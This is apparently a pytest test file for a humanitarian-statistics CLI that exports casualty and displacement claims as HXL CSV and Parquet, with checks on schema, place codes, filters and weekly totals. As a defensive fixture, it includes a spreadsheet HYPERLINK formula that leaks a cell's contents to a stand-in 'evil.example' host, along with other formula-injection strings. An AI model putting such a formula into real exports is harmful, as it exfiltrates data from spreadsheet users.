"""``hum-stats export``: every file is read back with libhxl and checked with an HXL schema.

The documents are written in a small line language read by a test extractor, so that each
claim's place, organisation, baseline and quote are known:

    40 families displaced in قرية البارة بريف إدلب الجنوبي according to Response Coordinators since 2019-12-01

Each line with a figure is one claim, and the whole line is its quote.
"""

from __future__ import annotations

import csv
import datetime as dt
import re
from pathlib import Path

import hxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

import hum_stats
import hum_stats.extract
from hum_stats.claims import Claim
from hum_stats.cli import app
from hum_stats.export import COLUMNS, FORMULA_STARTS, Filters, claims_table, neutralise

runner = CliRunner()

_LINE = re.compile(
    r"(?P<value>\d+) (?P<unit>families|individuals) (?P<group>all|civilians|children) "
    r"(?P<metric>displaced|killed|injured)"
    r"(?: in (?P<loc>.+?))?(?: according to (?P<org>.+?))?(?: since (?P<since>\d{4}-\d\d-\d\d))?"
    r"(?: over (?P<days>\d+) days?)?\s*$"
)


def line_extract(text: str, language: str | None = None, published: str | None = None) -> list[Claim]:
    claims = []
    offset = 0
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\n")
        m = _LINE.search(body)
        if m:
            claims.append(
                Claim(
                    m["metric"], m["unit"], m["group"], int(m["value"]), since=m["since"],
                    attributed_to=m["org"], location=m["loc"], start=offset, end=offset + len(body),
                    quote=body, window_days=int(m["days"]) if m["days"] else None,
                )
            )  # fmt: skip
        offset += len(line)
    return claims


HYPERLINK = '=HYPERLINK("http://evil.example/x?leak="&A1,"click me")'

#: (file, published, url, publisher, text)
DOCS = [
    ("a.md", "2019-12-02", "https://example.org/a", "Enab Baladi",
     "40 families all displaced in قرية البارة بريف إدلب الجنوبي according to Response Coordinators since 2019-12-01\n"
     "12 individuals civilians killed in ريف إدلب الجنوبي according to SOHR"),
    ("b.md", "2019-12-04", "https://example.org/b", "Syria TV",
     "40 families all displaced in Al-Bara according to Response Coordinators since 2019-12-01\n"
     "9 individuals children killed in إدلب وريف حماة according to SOHR"),
    ("c.md", "2019-12-16", "https://example.org/c", "Halab Today",
     "95 families all displaced in Kafranbel according to Response Coordinators since 2019-12-01\n"
     "5 individuals all injured over 1 day"),
    ("d.md", "2020-01-07", "https://example.org/d", "OCHA",
     "300 families all displaced in Atlantis according to Response Coordinators since 2019-12-01\n"
     "20 individuals civilians killed in Saraqib according to SOHR"),
    ("evil.md", "2020-01-08", "https://example.org/evil", HYPERLINK,
     f"{HYPERLINK} 7 individuals civilians killed in @SUM(A1:A9) according to {HYPERLINK}\n"
     "-3 individuals all injured in +Idlib"),
]  # fmt: skip


@pytest.fixture
def export_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(hum_stats.extract, "extract", line_extract)
    folder = tmp_path / "docs"
    folder.mkdir()
    for name, published, url, publisher, text in DOCS:
        front = f"title: {name}\npublished: {published}\nurl: {url}\npublisher: '{publisher}'\nlanguage: en"
        (folder / name).write_text(f"---\n{front}\n---\n{text}\n", encoding="utf-8")
    path = tmp_path / "export.duckdb"
    with hum_stats.open(path) as db:
        report = db.ingest_paths([folder])
        assert report.failed == 0 and report.sent_to_review == 0, report.failures
    return str(path)


def invoke(*args: str):
    return runner.invoke(app, ["export", *args])


def read_hxl(path: Path) -> hxl.model.Dataset:
    return hxl.data(str(path), hxl.InputOptions(allow_local=True)).cache()


def csv_rows(path: Path, encoding: str = "utf-8") -> tuple[list[str], list[str], list[dict[str, str]]]:
    with path.open(encoding=encoding, newline="") as fh:
        header, tags, *rows = list(csv.reader(fh))
    return header, tags, [dict(zip(header, r, strict=True)) for r in rows]


# -- the HXL contract, written out by hand from issue 6 -----------------------------------------

REQUIRED_TAGS = [
    "#meta+id", "#date+reported", "#date+start", "#date+end", "#adm1+name", "#adm1+code",
    "#adm2+name", "#adm2+code", "#loc+name", "#affected+num", "#org+name", "#meta+source",
    "#meta+url", "#description",
]  # fmt: skip
ISO_DATE = r"^\d{4}-\d{2}-\d{2}$"
SCHEMA_RULES = [
    ["#valid_tag", "#valid_datatype", "#valid_required", "#valid_value+regex"],
    ["#meta+id", "", "true", ""],
    ["#affected+num", "number", "true", r"^\d+$"],
    ["#meta+num", "number", "", r"^\d+$"],
    ["#date+reported", "date", "", ISO_DATE],
    ["#date+start", "date", "", ISO_DATE],
    ["#date+end", "date", "true", ISO_DATE],
    ["#date+baseline", "date", "", ISO_DATE],
    ["#adm1+code", "text", "", r"^SY\d{2}$"],
    ["#adm2+code", "text", "", r"^SY\d{4}$"],
    ["#loc+code", "text", "", r"^SY\d{2}(\d{2})?$"],
    ["#loc+type", "text", "", r"^(adm1|adm2|town)$"],
    ["#indicator+metric", "text", "true", r"^(displaced|returned|killed|injured|missing|detained)$"],
    ["#indicator+unit", "text", "true", r"^(families|individuals)$"],
    ["#indicator+code", "text", "true", r"^#affected(\+[a-z_]+)+$"],
]


def validate(dataset: hxl.model.Dataset) -> list[str]:
    errors: list[str] = []
    schema = hxl.schema(
        SCHEMA_RULES, callback=lambda e: errors.append(f"{e.rule.tag_pattern}: {e.message} {e.value!r}")
    )
    schema.validate(dataset)
    return errors


WHAT = {"observations": [], "claims": ["--claims"], "weekly": ["--weekly"]}


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
@pytest.mark.parametrize("what", list(WHAT))
def test_every_export_reads_back_with_libhxl_and_passes_the_schema(export_db, tmp_path, what, excel):
    target = tmp_path / f"{what}.csv"
    result = invoke("-o", str(target), *WHAT[what], *(["--excel"] if excel else []), "--db", export_db)
    assert result.exit_code == 0, result.stderr
    data = read_hxl(target)
    assert set(REQUIRED_TAGS) <= set(data.display_tags)
    assert data.display_tags == [c.hxl for c in COLUMNS[what]]
    assert validate(data) == []
    rows = list(data)
    n = int(result.stdout.split()[0])
    assert len(rows) == n > 0
    assert all(re.fullmatch(r"\d+", r.get("#affected+num")) for r in rows)


def test_the_schema_catches_a_bad_number_and_a_bad_date(export_db, tmp_path):
    target = tmp_path / "claims.csv"
    assert invoke("-o", str(target), "--claims", "--db", export_db).exit_code == 0
    lines = target.read_text(encoding="utf-8").splitlines()
    header, tags, first, *rest = lines
    cells = next(csv.reader([first]))
    names = next(csv.reader([header]))
    cells[names.index("value")] = "'40"
    cells[names.index("date_end")] = "2019-13-45"
    broken = tmp_path / "broken.csv"
    with broken.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([names, next(csv.reader([tags])), cells])
    errors = validate(read_hxl(broken))
    assert any(e.startswith("#affected+num") for e in errors)
    assert any(e.startswith("#date+end") for e in errors)


def test_claims_export_matches_the_database(export_db, tmp_path):
    target = tmp_path / "claims.csv"
    assert invoke("-o", str(target), "--claims", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    with hum_stats.open(export_db) as db:
        frame = db.claims()
    assert [r["claim_id"] for r in rows] == list(frame["claim_id"])
    assert [int(r["value"]) for r in rows] == list(frame["value"])
    assert [r["date_reported"] for r in rows] == [f"{d:%Y-%m-%d}" for d in frame["published"]]
    killed = next(r for r in rows if r["quote"].startswith("20 individuals civilians killed"))
    assert (killed["organisation"], killed["source"], killed["url"]) == (
        "SOHR",
        "OCHA",
        "https://example.org/d",
    )
    assert killed["indicator"] == "#affected+killed+ind+civilians"
    assert killed["measure"] == "cumulative" and killed["date_start"] == ""
    assert killed["date_end"] == "2020-01-07" and killed["status"] == "machine"


def test_an_increment_has_its_window_as_start_and_end(export_db, tmp_path):
    target = tmp_path / "claims.csv"
    assert invoke("-o", str(target), "--claims", "--metric", "injured", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    row = next(r for r in rows if r["value"] == "5")
    assert (row["measure"], row["date_start"], row["date_end"]) == ("increment", "2019-12-15", "2019-12-16")
    assert row["organisation"] == ""  # credited to nobody: empty, the publisher is in source
    assert row["place_note"] == "the report names no place"


# -- places ------------------------------------------------------------------------------------

PLACES = [
    # (location as written, place, level, place code, adm1, adm2, words of the note)
    ("قرية البارة بريف إدلب الجنوبي", "Al-Bara", "town", "SY0705", "SY07", "SY0705", "carries its district's code"),
    ("Kafranbel", "Kafr Nabl", "town", "SY0702", "SY07", "SY0702", "carries its district's code"),
    ("Saraqib", "Saraqib", "town", "SY0700", "SY07", "SY0700", "carries its district's code"),
    ("ريف إدلب الجنوبي", "Idleb", "adm1", "SY07", "SY07", "", ""),
    ("إدلب وريف حماة", "", "", "", "", "", "different governorates (Idleb, Hama)"),
    ("Atlantis", "", "", "", "", "", "no gazetteer name in 'Atlantis'; if it is a Syrian place, add its spelling"),
]  # fmt: skip


@pytest.mark.parametrize("location,place,level,code,adm1,adm2,note", PLACES, ids=[p[0] for p in PLACES])
def test_places_carry_a_p_code_of_their_level_or_say_why_not(
    export_db, tmp_path, location, place, level, code, adm1, adm2, note
):
    target = tmp_path / "claims.csv"
    assert invoke("-o", str(target), "--claims", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    row = next(r for r in rows if r["location"] == location)
    assert (row["place"], row["place_level"], row["place_code"]) == (place, level, code)
    assert (row["adm1_code"], row["adm2_code"]) == (adm1, adm2)
    assert note in row["place_note"]
    if code:
        assert row["adm1_name"] == "Idleb"


def test_every_row_has_a_code_or_a_reason(export_db, tmp_path):
    for what in WHAT:
        target = tmp_path / f"{what}.csv"
        assert invoke("-o", str(target), *WHAT[what], "--db", export_db).exit_code == 0
        for row in csv_rows(target)[2]:
            assert row["adm1_code"] or row["place_note"], row


def test_an_observation_reported_twice_keeps_both_sources(export_db, tmp_path):
    target = tmp_path / "obs.csv"
    assert invoke("-o", str(target), "--metric", "displaced", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    forty = [r for r in rows if r["value"] == "40"]
    assert len(forty) == 1
    row = forty[0]
    assert row["n_sources"] == "2"
    assert row["sources"] == "Enab Baladi | Syria TV"
    assert row["urls"] == "https://example.org/a | https://example.org/b"
    assert (row["date_reported"], row["date_last_reported"], row["date_start"]) == (
        "2019-12-02",
        "2019-12-04",
        "2019-12-01",
    )
    # both spellings name the town Al-Bara
    assert (row["place"], row["place_code"], row["location"]) == (
        "Al-Bara",
        "SY0705",
        "قرية البارة بريف إدلب الجنوبي | Al-Bara",
    )


# -- filters -----------------------------------------------------------------------------------


def _values(path: Path, column: str = "value") -> list[str]:
    return [r[column] for r in csv_rows(path)[2]]


@pytest.mark.parametrize(
    "options,expected",
    [
        (["--metric", "killed"], ["12", "9", "20", "7"]),
        (["--place", "Idlib"], ["40", "12", "40", "95", "20", "3"]),  # "+Idlib" too
        (["--place", "Ariha"], ["40", "40"]),  # Al-Bara is in Ariha district; plain Idlib is not
        (["--place", "Kafr Nabl"], ["95"]),
        (["--since", "2019-12-04", "--until", "2019-12-16"], ["40", "9", "95", "5"]),
        (["--organisation", "SOHR"], ["12", "9", "20"]),
        (["--organisation", "SOHR", "--place", "Saraqib"], ["20"]),
    ],
    ids=[
        "metric",
        "place-governorate",
        "place-district",
        "place-town",
        "date-range",
        "organisation",
        "combined",
    ],
)
def test_filters(export_db, tmp_path, options, expected):
    target = tmp_path / "claims.csv"
    result = invoke("-o", str(target), "--claims", *options, "--db", export_db)
    assert result.exit_code == 0, result.stderr
    assert _values(target) == expected


def test_an_unknown_place_says_what_to_give(export_db, tmp_path):
    target = tmp_path / "x.csv"
    result = invoke("-o", str(target), "--place", "Atlantis", "--db", export_db)
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: --place 'Atlantis' is not in the gazetteer; give a governorate, district or town "
        "of sources/gazetteer.csv (e.g. Idlib, Ariha, Saraqib)\n"
    )
    assert not target.exists()


# -- weekly ------------------------------------------------------------------------------------


def test_weekly_rows_are_weeks_of_the_running_totals(export_db, tmp_path):
    target = tmp_path / "weekly.csv"
    assert invoke("-o", str(target), "--weekly", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    with hum_stats.open(export_db) as db:
        totals = db.running_totals()
    assert len(rows) == len(totals)
    for row, (_, t) in zip(rows, totals.iterrows(), strict=True):
        start, end = dt.date.fromisoformat(row["date_start"]), dt.date.fromisoformat(row["date_end"])
        assert (start.isoweekday(), end.isoweekday(), (end - start).days) == (1, 7, 6)
        assert end == t["week_end"].date()
        assert int(row["value"]) == t["cumulative"]
        assert row["series_id"] == t["series_id"]
        assert row["new_this_week"] == ("" if pd.isna(t["new_this_week"]) else str(t["new_this_week"]))
        assert "not split by place" in row["place_note"]
    fam = [r for r in rows if r["series_id"] == "displaced/families/all/Response Coordinators/2019-12-01"]
    assert [(r["date_end"], r["value"], r["n_sources"]) for r in fam] == [
        ("2019-12-08", "40", "2"), ("2019-12-15", "40", "0"), ("2019-12-22", "95", "1"),
        ("2019-12-29", "95", "0"), ("2020-01-05", "95", "0"), ("2020-01-12", "300", "1"),
    ]  # fmt: skip
    assert fam[1]["note"] == "no report this week: total carried forward"
    assert fam[0]["sources"] == "Enab Baladi | Syria TV"


def test_weekly_for_a_place_carries_its_codes(export_db, tmp_path):
    target = tmp_path / "weekly.csv"
    assert invoke("-o", str(target), "--weekly", "--place", "Ariha", "--db", export_db).exit_code == 0
    _, _, rows = csv_rows(target)
    assert rows and {(r["adm2_code"], r["place_level"], r["location"]) for r in rows} == {
        ("SY0705", "adm2", "Ariha")
    }
    assert [r["value"] for r in rows] == ["40"]


# -- Excel and formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=1+1", "'=1+1"), ("+971", "'+971"), ("-3 injured", "'-3 injured"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"), ("\rx", "'\rx"), ("\nx", "'\nx"), ("＝1+1", "'＝1+1"), ("  =1+1", "'  =1+1"),
        ("إدلب", "إدلب"), ("40 families", "40 families"), ("a=b", "a=b"), ("", ""),
    ],
    ids=["equals", "plus", "minus", "at", "tab", "cr", "lf", "fullwidth-equals", "space-equals", "arabic", "plain", "inside", "empty"],
)  # fmt: skip
def test_neutralise(text, expected):
    assert neutralise(text) == expected


@pytest.mark.parametrize("excel", [False, True], ids=["plain", "excel"])
@pytest.mark.parametrize("what", list(WHAT))
def test_a_hyperlink_formula_in_text_or_organisation_exports_harmlessly(export_db, tmp_path, what, excel):
    target = tmp_path / f"{what}.csv"
    extra = ["--excel"] if excel else []
    assert invoke("-o", str(target), *WHAT[what], *extra, "--db", export_db).exit_code == 0
    header, _, rows = csv_rows(target, encoding="utf-8-sig")
    kinds = {c.name: c.kind for c in COLUMNS[what]}
    for row in rows:
        for name, cell in row.items():
            if kinds[name] == "number":
                assert cell == "" or cell.isdigit(), (name, cell)  # numbers stay numbers
            else:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
    flat = [cell for row in rows for cell in row.values()]
    assert f"'{HYPERLINK}" in flat or any(c.startswith(f"'{HYPERLINK}") for c in flat)  # kept, quoted


def test_the_hyperlink_claim_keeps_its_text_behind_a_quote(export_db, tmp_path):
    target = tmp_path / "claims.csv"
    assert invoke("-o", str(target), "--claims", "--db", export_db).exit_code == 0
    rows = csv_rows(target)[2]
    evil = next(r for r in rows if r["url"] == "https://example.org/evil" and r["metric"] == "killed")
    assert evil["organisation"] == f"'{HYPERLINK}"
    assert evil["source"] == f"'{HYPERLINK}"
    assert evil["quote"].startswith(f"'{HYPERLINK} 7 individuals")
    assert evil["location"] == "'@SUM(A1:A9)"
    assert evil["value"] == "7"
    injured = next(r for r in rows if r["url"] == "https://example.org/evil" and r["metric"] == "injured")
    assert (injured["quote"], injured["location"]) == ("'-3 individuals all injured in +Idlib", "'+Idlib")
    # libhxl reads the same, harmless, cells
    data = read_hxl(target)
    assert f"'{HYPERLINK}" in [r.get("#org+name") for r in data]


def test_excel_export_has_a_bom_and_arabic_intact(export_db, tmp_path):
    plain, excel = tmp_path / "plain.csv", tmp_path / "excel.csv"
    assert invoke("-o", str(plain), "--claims", "--db", export_db).exit_code == 0
    assert invoke("-o", str(excel), "--claims", "--excel", "--db", export_db).exit_code == 0
    assert excel.read_bytes().startswith(b"\xef\xbb\xbf")
    assert not plain.read_bytes().startswith(b"\xef\xbb\xbf")
    assert excel.read_bytes()[3:] == plain.read_bytes()
    locations = _values(excel, "location")
    assert "قرية البارة بريف إدلب الجنوبي" in [r["location"] for r in csv_rows(excel, "utf-8-sig")[2]]
    assert csv_rows(excel, "utf-8-sig")[0][0] == "claim_id"  # the BOM is not part of the first name
    assert locations  # read back


def test_an_existing_file_is_not_overwritten_without_force(export_db, tmp_path):
    for name in ("keep.csv", "keep.parquet"):
        target = tmp_path / name
        target.write_text("keep me", encoding="utf-8")
        result = invoke("-o", str(target), "--db", export_db)
        assert result.exit_code == 1
        assert result.stderr == (
            f"Error: {target}: already exists; pass --force to overwrite it or choose another -o path\n"
        )
        assert target.read_text(encoding="utf-8") == "keep me"
        assert invoke("-o", str(target), "--force", "--db", export_db).exit_code == 0
        assert target.read_bytes() != b"keep me"


@pytest.mark.parametrize(
    "options,message",
    [
        (["--claims", "--weekly"], "--claims and --weekly choose different tables; give one of them"),
        (["--format", "parquet", "--excel"], "--excel applies to CSV files; drop it, or write CSV with --format csv"),
        (["--format", "xlsx"], "unknown format 'xlsx'; use csv or parquet"),
        (["--metric", "fled"], "unknown metric 'fled'; use one of displaced, returned, killed, injured, missing, detained"),
    ],
    ids=["two-tables", "excel-parquet", "format", "metric"],
)  # fmt: skip
def test_bad_options_say_what_to_do(export_db, tmp_path, options, message):
    target = tmp_path / "x.csv"
    result = invoke("-o", str(target), *options, "--db", export_db)
    assert result.exit_code == 1
    assert result.stderr == f"Error: {message}\n"
    assert not target.exists()


# -- Parquet -----------------------------------------------------------------------------------


@pytest.mark.parametrize("what", list(WHAT))
def test_parquet_has_the_csv_columns_typed_with_their_hxl_tags(export_db, tmp_path, what):
    pq_path, csv_path = tmp_path / f"{what}.parquet", tmp_path / f"{what}.csv"
    result = invoke("-o", str(pq_path), *WHAT[what], "--db", export_db)
    assert result.exit_code == 0, result.stderr
    assert invoke("-o", str(csv_path), *WHAT[what], "--db", export_db).exit_code == 0
    table = pq.read_table(pq_path)
    header, tags, rows = csv_rows(csv_path)
    assert table.column_names == header
    assert [f.metadata[b"hxl"].decode() for f in table.schema] == tags
    types = {f.name: str(f.type) for f in table.schema}
    assert types["value"] == "int64" and types["date_end"] == "date32[day]"
    frame = table.to_pandas()
    assert len(frame) == len(rows) == int(result.stdout.split()[0])
    assert [str(v) for v in frame["value"]] == [r["value"] for r in rows]
    assert [f"{d:%Y-%m-%d}" for d in frame["date_end"]] == [r["date_end"] for r in rows]


def test_parquet_keeps_raw_text_and_lists(export_db, tmp_path):
    target = tmp_path / "obs.parquet"
    assert invoke("-o", str(target), "--db", export_db).exit_code == 0
    frame = pq.read_table(target).to_pandas()
    forty = frame.loc[frame["value"] == 40].iloc[0]
    assert list(forty["sources"]) == ["Enab Baladi", "Syria TV"]
    assert HYPERLINK in set(frame["organisation"])  # not neutralised: Parquet is not a spreadsheet


def test_format_follows_the_file_name(export_db, tmp_path):
    target = tmp_path / "claims.parquet"
    assert invoke("-o", str(target), "--claims", "--db", export_db).exit_code == 0
    assert target.read_bytes()[:4] == b"PAR1"


# -- library and documentation -----------------------------------------------------------------


def test_library_table_filters_like_the_cli(export_db):
    with hum_stats.open(export_db) as db:
        frame = claims_table(db, Filters(metric="killed", place="Idlib"))
    assert list(frame["value"]) == [12, 20]
    assert set(frame["adm1_code"]) == {"SY07"}


def test_the_data_dictionary_describes_every_column_with_its_tag():
    text = (Path(__file__).parents[1] / "docs" / "data-dictionary.md").read_text(encoding="utf-8")
    sections = re.split(r"^## ", text, flags=re.M)
    for what, columns in COLUMNS.items():
        section = next((s for s in sections if s.lower().startswith(what)), None)
        assert section is not None, f"docs/data-dictionary.md has no '## {what}' section"
        documented = {
            m["name"]: m["tag"]
            for m in re.finditer(r"^\| `(?P<name>[a-z_0-9]+)` \| `(?P<tag>#[^`]+)` \|", section, re.M)
        }
        assert documented == {c.name: c.hxl for c in columns}, what


def test_the_plain_claims_csv_of_run_is_neutralised_too(export_db, tmp_path):
    from hum_stats.export import write_claims_csv

    with hum_stats.open(export_db) as db:
        frame = db.claims()
    target = write_claims_csv(frame, tmp_path / "claims.csv")
    with target.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(frame)
    assert f"'{HYPERLINK}" in {r["attributed_to"] for r in rows}
    assert not [c for r in rows for k, c in r.items() if k != "value" and c.startswith(FORMULA_STARTS)]
